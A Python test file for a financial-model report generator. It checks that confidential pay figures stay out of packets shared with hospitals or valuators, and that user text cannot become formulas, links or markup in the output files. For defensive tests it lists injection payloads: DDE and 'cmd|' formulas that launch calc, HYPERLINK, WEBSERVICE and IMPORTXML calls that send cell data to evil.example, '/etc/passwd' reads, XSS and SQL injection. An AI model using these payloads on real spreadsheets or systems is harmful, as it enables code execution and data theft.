"""What a reader on the other side gets, and what nobody's text can become: canaries, payloads, pictures, intervals."""

import csv
import dataclasses
import io
import json
import re
import zipfile

import openpyxl
import pypdf
import pytest
from PIL import Image

from finmodel import assume, evaluate, load_practice
from finmodel.assumptions import BadInput, Source
from finmodel.cases import assume as assumed
from finmodel.contracts.files import load_proposal
from finmodel.engine import Line
from finmodel.packet.blocks import Edits
from finmodel.packet.build import build
from finmodel.packet.determination import determined
from finmodel.packet.documents import harmless
from finmodel.packet.lettering import printable
from finmodel.packet.logo import clean_logo
from finmodel.packet.pdf import write_pdf
from finmodel.packet.pictures import Pictures
from finmodel.packet.policy import Policy, projected, see_that_all_match
from finmodel.packet.sharing import given_away, guessed_closely, refuse, sentence, too_tight
from tests.packets import built, inside, packet_of, result_of

WITHHELD = ("providers.", "roster_changes.", "actuals.compensation_paid", "actuals.other_provider_expense",
            "expenses.recruitment.")
# There is one category of APPs, and the FTE of all APPs is shared.
NO_SECRET = {"providers.advanced_practice_provider.fte"}
SHIPPED = ("medicare_rules.", "alternatives.")
WORD = "CANARY"


def with_canaries():
    """The sample practice in which confidential numbers have digits of their own, and every note and secret text has a word."""
    practice = load_practice("sample")

    def marked(record, at):
        numbers = {name: one.model_copy(update={"value": one.value * (1 + (at + 1) * 1.2345e-5)})
                   for at, (name, one) in enumerate(dict(record).items(), at) if getattr(one, "value", None)}
        return record.model_copy(update=numbers)

    providers = {key: marked(one, 10 * at) for at, (key, one) in enumerate(practice.providers.items())}
    roster = {key: marked(one, 70 + at).model_copy(update={"label": f"{WORD} Dr. Who"})
              for at, (key, one) in enumerate(practice.roster_changes.items())}
    expenses = {**practice.expenses, "recruitment": marked(practice.expenses["recruitment"], 80).model_copy(
        update={"label": f"{WORD} search firm"})}
    payer = practice.payers["medicare"]
    rate = payer.collected_per_work_rvu.model_copy(update={"status": "sourced", "source": "own-books"})
    books = Source(title="Our books", publisher="The group", date=2025, address="in the safe", licence="none",
                   note=f"{WORD}: ask the accountant")
    whole = practice.model_copy(update={
        "providers": providers, "roster_changes": roster, "expenses": expenses, "actuals": marked(practice.actuals, 90),
        "payers": {**practice.payers, "medicare": payer.model_copy(update={"collected_per_work_rvu": rate})},
        "sources": {"own-books": books}})
    key, proposal = load_proposal("cost_basis")
    support = proposal.mechanisms["support"]
    gaps = dict.fromkeys(support.evidence, "missing")
    silent = proposal.model_copy(update={"mechanisms": {"support": support.model_copy(update={"evidence_status": gaps})}})
    assumptions = assumed(whole, proposals={key: silent})
    noted = {path: one if path.startswith(SHIPPED) else one.model_copy(update={"note": f"{WORD}: we would take less"})
             for path, one in assumptions.items()}
    return evaluate(dataclasses.replace(assumptions, by_path=noted))


def spellings(value):
    """How a number would be recognised: its digits as stored, and as dollars are read."""
    return {f"{value!r}"[:10].encode(), *({f"{value:,.0f}".encode()} if abs(value) >= 10_000 else set())}


def secrets_of(result):
    """Every spelling of a confidential number of the run, with what it is."""
    found = {}
    assumptions = result.assumptions[0]
    for path, quantity in assumptions.items():
        value = quantity.values[0]
        if path.startswith(WITHHELD) and path not in NO_SECRET and value != round(value, 3):
            found |= dict.fromkeys(spellings(value), path)
    for name in ("compensation_by_category", "owner_compensation", "app_compensation", "compensation_per_fte"):
        found |= {one: name for value in result[name].flat if value for one in spellings(float(value))}
    return found


@pytest.fixture(scope="module")
def canaries():
    return with_canaries()


@pytest.fixture(scope="module")
def hospital(canaries, tmp_path_factory):
    return built(canaries, "hospital", tmp_path_factory.mktemp("hospital"))


@pytest.mark.parametrize("label", ["PDF", "Workbook", "Slides", "Data (JSON)", "Tables (CSV)", "Lines (CSV)"])
def test_nothing_confidential_is_in_any_byte_of_the_hospitals_packet(canaries, hospital, label):
    content = b"\n".join(inside(hospital[label]))
    assert WORD.encode() not in content
    assert WORD.encode("utf-16-be") not in content
    told = {found for found in secrets_of(canaries) if found in content}
    assert not {secrets_of(canaries)[one] for one in told}


def test_notes_of_files_that_ship_stay(canaries, hospital):
    note = next(one.note for path, one in canaries.assumptions[0].items() if path.startswith(SHIPPED) and one.note)
    assert note.encode() in b"\n".join(inside(hospital["Data (JSON)"]))


def test_the_valuators_file_has_none_of_the_groups_notes(canaries, tmp_path):
    # The names of a hire and of a search firm are evidence; what was written beside the numbers is not.
    files = built(canaries, "valuator", tmp_path)
    for label in ("PDF", "Workbook", "Data (JSON)"):
        content = b"\n".join(inside(files[label]))
        assert b"Our books" in content
        assert b"take less" not in content
        assert b"ask the accountant" not in content


def test_the_groups_own_copy_holds_what_the_hospitals_does_not(canaries, tmp_path):
    content = b"\n".join(inside(built(canaries, "group", tmp_path)["Data (JSON)"]))
    found = {name for spelling, name in secrets_of(canaries).items() if spelling in content}
    assert WORD.encode() in content
    assert found == set(secrets_of(canaries).values())
    assert len(found) > 35


def test_a_projected_run_is_put_together_from_what_is_shared(canaries):
    shown = projected(canaries, Policy())
    assert "compensation_by_category" in canaries.graph.lines
    assert "compensation_by_category" not in shown.graph.lines
    assert set(shown.values) == set(shown.graph.lines)
    assert not [path for path in shown.assumptions[0] if path.startswith(WITHHELD)]
    with pytest.raises(AttributeError):
        _ = shown.assumptions[0].practice.actuals.compensation_paid


def test_whatever_is_withheld_the_packet_can_be_written():
    result = result_of()
    policy = Policy().with_exceptions((), ("*",))
    bare = packet_of(result, "hospital", policy=policy)
    words = json.dumps([dataclasses.asdict(block) for _, block in bare.blocks()], default=str)
    deficit = result.series("support_deficit")[1]
    assert f"{result.series('total_revenue')[1]:,.0f}" not in words
    assert "what_if" not in {one.key for one in bare.sections}
    # What the proposal pays, and leaves, is what the hospital is asked for.
    assert f"{deficit:,.0f}" in words
    assert write_pdf(bare, Pictures()).startswith(b"%PDF")


# ---- What can be computed --------------------------------------------------------------------------------------------


def interval(found, label):
    return next(one for one in found if label in one.label)


def test_what_is_shared_bounds_what_is_not():
    result = result_of()
    found = determined(result, Policy(), [2026])
    # Of the radiologists' pay only the sum is shared: each part is at most that, and at least nothing.
    partners = interval(found, "Partners, diagnostic")
    assert (partners.low, partners.high) == pytest.approx((0.0, result.series("radiologist_compensation")[1]))
    # The interventional service line pays half of what it costs, less collections: that caps their pay.
    assert interval(found, "Interventional").high < result.series("radiologist_compensation")[1]


def test_two_totals_together_give_the_third_away():
    # Pay of all − pay of radiologists = pay of APPs: to the dollar.
    result = result_of()
    policy = dataclasses.replace(Policy(), shared=("radiologist_compensation", "compensation_allowed"))
    apps = interval(determined(result, policy, [2026]), "APP compensation")
    wanted = result.series("compensation_allowed")[1] - result.series("radiologist_compensation")[1]
    assert (apps.low, apps.high) == pytest.approx((wanted, wanted))
    assert apps.tightness == pytest.approx(0.0, abs=1e-6)


def test_earlier_packets_count():
    result = result_of()
    open_still = too_tight(given_away(result, Policy()), 0.10)
    tight = too_tight(given_away(result, Policy(), {"compensation_allowed"}), 0.10)
    assert not open_still
    assert {one.label for one in tight} == {"APP compensation", "Agreed pay by category: Nurse practitioners and physician "
                                                               "assistants"}
    with pytest.raises(BadInput, match="withhold more") as refused:
        refuse(tight, 0.10)
    assert not re.search(r"\d{4}", str(refused.value))


def test_the_year_of_a_hire_tells_the_hires_pay():
    # From what is printed: pay rises by C2029 ÷ C2028 a year, as nobody comes or goes, and half a year of the hire of 2026 is
    # missing in C2026: (C2026 − C2025 × rate) ÷ 0.5 ÷ rate is about the $500,000 of the base year that the file has.
    result = result_of(proposals=("cost_basis",))
    pay, fte = result.series("radiologist_compensation"), result.series("radiologist_fte")
    rate = pay[4] / pay[3]
    assert fte[1] - fte[0] == pytest.approx(0.5)
    assert (pay[1] - rate * pay[0]) / 0.5 / rate == pytest.approx(500_000, rel=0.002)
    employed = interval(given_away(result, Policy()), "Agreed pay per FTE: Employed")
    # Trends are 3 % for three categories of radiologists and APPs and 3.5 % for one: 3.1 % is what is taken for all.
    assert (employed.guessed_low, employed.guessed_high) == pytest.approx((500_000 * 1.031, 500_000 * 1.031), rel=1e-6)
    assert employed.tightness == float("inf")
    assert employed in guessed_closely([employed], 0.10)
    assert "WARNING" not in sentence(employed)
    assert "Guessed by one who knows who works where: $515,500." in sentence(employed)


def test_with_two_proposals_only_the_pay_of_the_hires_category_can_be_guessed():
    # The interventional service line pays half of what it costs, less collections: that narrows their pay, no more.
    found = given_away(result_of(), Policy())
    guessed = {one.label.partition(": ")[2] for one in guessed_closely(found, 0.10)}
    assert guessed == {"Employed, diagnostic"}
    assert not too_tight(found, 0.10)


def test_with_years_alike_nobodys_pay_can_be_guessed():
    practice = load_practice("sample").model_copy(update={"roster_changes": {}})
    found = given_away(evaluate(assume(practice, proposals=dict([load_proposal("cost_basis")]))), Policy())
    assert len({one.label for one in found if "Agreed pay per FTE" in one.label}) == 5
    assert not guessed_closely(found, 0.10)


def test_last_years_pay_is_no_rest_of_the_bridge():
    # Pay allowed − pay paid is a step of the bridge: shared, it tells last year's pay as closely as APPs' pay is known, and from
    # one year to the next the rise of APPs' pay.
    result = result_of(proposals=("cost_basis",))
    found = given_away(result, Policy())
    assert min(interval(found, one).least_tightness for one in ("Compensation paid", "other provider expense", "APP comp")) > 0.1
    told = given_away(result, Policy().with_exceptions(("bridge_compensation",), ()))
    assert interval(told, "Compensation paid").tightness < 0.1
    assert interval(told, "APP compensation").guessed_tightness == pytest.approx(0.0, abs=1e-6)


@pytest.mark.parametrize(
    ("withheld", "label"),
    [
        # Agreed pay per FTE × FTE = pay.
        ("radiologist_comp*", "Radiologist compensation"),
        # The rate is a line itself.
        ("payers.commercial.collected_per_work_rvu", "Commercial: collected per work RVU"),
        # The item is shared, and the sum of the others.
        ("expenses.management.*", "Management"),
    ],
)
def test_what_a_pattern_withholds_is_tested_by_each_name(withheld, label):
    found = given_away(result_of(proposals=("cost_basis",)), Policy().with_exceptions((), (withheld,)))
    assert any(label.lower() in one.label.lower() for one in too_tight(found, 0.10))


def test_a_pattern_that_names_nothing_is_refused():
    with pytest.raises(BadInput) as refused:
        see_that_all_match(result_of(), ("app_compensation", "owner_fee*"), ("radiologist_compensatoin", "expenses.*"))
    assert [(fault.file, fault.key) for fault in refused.value.faults] == [("--share", "owner_fee*"),
                                                                           ("--withhold", "radiologist_compensatoin")]
    assert "did you mean 'radiologist_compensation'" in refused.value.faults[1].reason


def test_what_is_withheld_on_purpose_but_follows_is_told():
    # Revenue is collections + other revenue, and both are shared: to withhold it alone withholds nothing.
    result = result_of()
    found = determined(result, Policy().with_exceptions((), ("total_revenue",)), [2026])
    assert interval(found, "Total revenue").tightness == 0.0
    # Benefits stay between nothing and all of what benefits, insurance and dues come to.
    hidden = determined(result, Policy().with_exceptions((), ("benefits_and_insurance", "total_expense", "support_deficit*",
                                                              "other_provider_expense", "*facility*", "client_*")), [2026])
    assert interval(hidden, "Benefits, insurance and dues").tightness > 0.1


def test_a_ratio_that_is_told_gives_what_stands_above_it():
    # Pay per FTE × FTE = pay: both are shared, so that withholding the sum withholds nothing.
    result = result_of()
    policy = Policy().with_exceptions((), ("radiologist_compensation",))
    pay = interval(determined(result, policy, [2026]), "Radiologist compensation")
    wanted = result.series("agreed_pay_per_radiologist_fte")[1] * result.series("radiologist_fte")[1]
    assert (pay.low, pay.high) == pytest.approx((wanted, wanted))


def test_a_single_category_has_no_secret():
    # With one category of radiologists, the sum of their pay is that category's pay.
    practice = load_practice("sample")
    kept = {key: one for key, one in practice.providers.items() if key in {"partner_radiologist", "advanced_practice_provider"}}
    only = practice.model_copy(update={"providers": kept, "roster_changes": {}})
    found = determined(evaluate(assume(only, proposals=dict([load_proposal("cost_basis")]))), Policy(), [2026])
    assert interval(found, "Partners").tightness == pytest.approx(0.0, abs=1e-6)


# ---- Text of others --------------------------------------------------------------------------------------------------


COMMANDS = ("HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)*cmd|'/c calc'!A0",
            "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "WEBSERVICE(\"http://evil.example\")",
            "DDE(\"cmd\";\"/C\";\"1\")",
            "rundll32|'URL.dll,OpenURL calc.exe'!A", "10+20+cmd|' /C calc'!A0", "A1", "2+5+cmd|' /C calc'!A0", "@SUM(1+1)*cmd")
STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =")
MARKUP = ("#read(\"/etc/passwd\")", "#import \"@preview/x:0.1.0\"", "#link(\"http://evil.example\")[go]", "$x^2$", "*bold* _em_",
          "`raw`", "<script>alert(1)</script>", "[click](http://evil.example)", "http://evil.example/a", "mailto:a@evil.example",
          "file:///etc/passwd", "internal:Inputs!A1", "external:x.xlsx", "{=1+1}", "\\input{x}", "%s%n", "${7*7}", "{{7*7}}",
          "\u202egnp.exe", "😀 名前 \u0000\u0007", "'; DROP TABLE x; --", "]]>", "&lt;b&gt;", "_x000D_=1+1")
PAYLOADS = tuple(dict.fromkeys((*(f"{start}{command}" for start in STARTS for command in COMMANDS), *MARKUP)))


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """A packet in which every text that a user may write is a payload."""
    practice = load_practice("sample")
    service = next(iter(practice.service_schedule.values()))
    schedule = {f"service_{at}": service.model_copy(update={"service": one, "hours": one, "turnaround": one})
                for at, one in enumerate(PAYLOADS)}
    payers = {key: one.model_copy(update={"label": PAYLOADS[at]}) for at, (key, one) in enumerate(practice.payers.items())}
    facilities = {key: one.model_copy(update={"label": PAYLOADS[20 + at]})
                  for at, (key, one) in enumerate(practice.facilities.items())}
    key, proposal = load_proposal("piecemeal")
    mechanisms = {name: one.model_copy(update={"label": PAYLOADS[40 + at], "purpose": PAYLOADS[60 + at]})
                  for at, (name, one) in enumerate(proposal.mechanisms.items())}
    named = proposal.model_copy(update={"name": PAYLOADS[0], "description": PAYLOADS[1], "mechanisms": mechanisms})
    whole = practice.model_copy(update={"name": PAYLOADS[2], "service_schedule": schedule, "payers": payers,
                                        "facilities": facilities})
    result = evaluate(assume(whole, proposals={key: named}))
    edits = Edits(title=PAYLOADS[3], letter="\n\n".join(PAYLOADS), offers=PAYLOADS[-24:])
    return built(result, "group", tmp_path_factory.mktemp("attacked"), edits=edits)


def test_there_are_enough_payloads():
    assert len(PAYLOADS) >= 120


def test_no_text_becomes_a_formula_in_csv(attacked):
    for label in ("Tables (CSV)", "Lines (CSV)"):
        for row in csv.reader(io.StringIO(attacked[label].read_text(encoding="utf-8-sig"), newline="")):
            for cell in row:
                assert not cell.lstrip().startswith(("=", "+", "@", "\t", "\r")), cell
                assert not cell.startswith("-") or float(cell) < 0


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_is_harmless_to_a_spreadsheet(payload):
    assert harmless(payload).lstrip(" ")[0] not in "=+-@\t\r\n"


@pytest.mark.parametrize("label", ["Workbook", "Slides"])
def test_no_text_becomes_a_formula_or_a_link_in_office_files(attacked, label):
    with zipfile.ZipFile(attacked[label]) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name, content in parts.items():
        assert b'TargetMode="External"' not in content, name
        assert b"relationships/hyperlink" not in content, name
        assert b"hlinkClick" not in content, name
        for quoted in re.findall(rb"<f>(.*?)</f>", content):
            formula = re.sub(rb"'(?:[^']|'')*'!", b"sheet!", quoted)
            assert b"evil" not in formula, (name, formula)
            assert b"cmd|" not in formula, (name, formula)
        if name.endswith(".xlsx"):
            book = openpyxl.load_workbook(io.BytesIO(content))
            assert not [cell for sheet in book for row in sheet.iter_rows() for cell in row
                        if cell.data_type == "f" or cell.hyperlink], name


def test_text_is_literal_on_paper(attacked):
    reader = pypdf.PdfReader(attacked["PDF"])
    links = [note.get_object().get("/A", {}).get("/URI") for page in reader.pages for note in page.get("/Annots", [])]
    assert not [one for one in links if one]
    words = re.sub(r"\s+", "", "".join(page.extract_text() for page in reader.pages[:6]))
    for payload in ("#read(\"/etc/passwd\")", "*bold*_em_", "$x^2$", "<script>alert(1)</script>"):
        assert re.sub(r"\s+", "", payload) in words
    assert "root:x:" not in words


@pytest.mark.parametrize("label", ["PDF", "Workbook", "Slides", "Data (JSON)", "Tables (CSV)", "Lines (CSV)"])
def test_what_nobody_sees_is_in_no_file(attacked, label):
    content = b"\n".join(inside(attacked[label]))
    for unseen in ("\u202e".encode(), b"\\u202e", b"_x0007_", b"\\u0007"):
        assert unseen not in content, unseen


def test_pictures_are_left_out_on_paper_and_unknown_letters_are_squares():
    assert printable("Ready \U0001f600go") == "Ready go"
    assert printable("\u540d Dr. \u202eWho\u0001") == "\u25a1 Dr. Who"


def test_json_keeps_text_as_it_is(attacked):
    document = json.loads(attacked["Data (JSON)"].read_text(encoding="utf-8"))
    assert document["practice"] == PAYLOADS[2]
    assert document["title"] == PAYLOADS[3]
    assert re.fullmatch(r"[a-z0-9.-]+", attacked["PDF"].name)


# ---- Logos -----------------------------------------------------------------------------------------------------------


def picture(size=(40, 20), form="PNG", **more):
    into = io.BytesIO()
    Image.new("RGB", size, "navy").save(into, form, **more)
    return into.getvalue()


def test_of_a_logo_only_the_picture_is_kept(tmp_path):
    clean = clean_logo(picture(form="JPEG", comment=b"CANARY"), "logo.jpg")
    assert clean.startswith(b"\x89PNG")
    assert b"CANARY" not in clean
    board = packet_of(result_of(), "board", edits=Edits(logo=clean))
    assert board.logo == clean
    assert built(result_of(), "board", tmp_path, edits=Edits(logo=clean))["PDF"].stat().st_size > 0


@pytest.mark.parametrize(
    "content",
    [b"", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", b"GIF89a" + b"\0" * 40, picture()[:60],
     b"x" * 6_000_000, picture((9_000, 2)), b"\x89PNG\r\n\x1a\n" + b"\0" * 100],
    ids=["empty", "svg", "gif", "cut off", "too many bytes", "too wide", "torn"],
)
def test_what_is_no_fit_picture_is_refused(content):
    with pytest.raises(BadInput, match=r"picture"):
        clean_logo(content, "logo")


def test_a_line_is_shared_by_name_table_and_group():
    def line(name, table=None, group=None):
        return Line(name, name, "USD/year", table, group, lambda: None, (), "")

    policy = Policy()
    assert policy.shares_line(line("total_expense"))
    assert not policy.shares_line(line("benefits_by_category", table="providers"))
    assert not policy.shares_line(line("expense_recruitment", group="provider_expense"))
    assert not policy.shares_line(line("cost_basis__allowable"))
    assert policy.shares_line(line("cost_basis__total"), frozenset({"cost_basis__total"}))


@pytest.mark.parametrize("name", ["collections", "total_operating_expense"])
def test_a_line_withheld_on_purpose_is_no_row_of_the_workbook(name, tmp_path):
    result = result_of("sample", ("cost_basis",))
    policy = Policy().with_exceptions((), (name,))
    sent = packet_of(result, "hospital", policy=policy)
    workbook = next(one.path for one in build(sent, result, policy, tmp_path) if one.label == "Workbook")
    assert name not in openpyxl.load_workbook(workbook).defined_names
    assert "work_rvus" in openpyxl.load_workbook(workbook).defined_names
